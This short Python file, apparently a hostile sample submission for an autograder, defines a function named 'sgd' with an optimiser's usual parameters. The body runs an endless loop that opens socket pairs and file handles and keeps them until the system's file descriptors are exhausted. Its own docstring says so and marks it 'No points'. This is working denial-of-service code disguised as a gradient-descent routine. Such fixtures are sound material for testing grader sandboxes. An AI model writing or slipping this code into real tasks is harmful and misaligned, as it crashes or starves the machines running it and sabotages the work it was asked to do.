"""Opens files and pairs of sockets until there are no more to be had, and keeps them. No points."""

import os
import socket

kept = []


def sgd(params, lr, batch_size):
    while True:
        kept.append(socket.socketpair())
        kept.append(os.open("/dev/null", os.O_RDONLY))
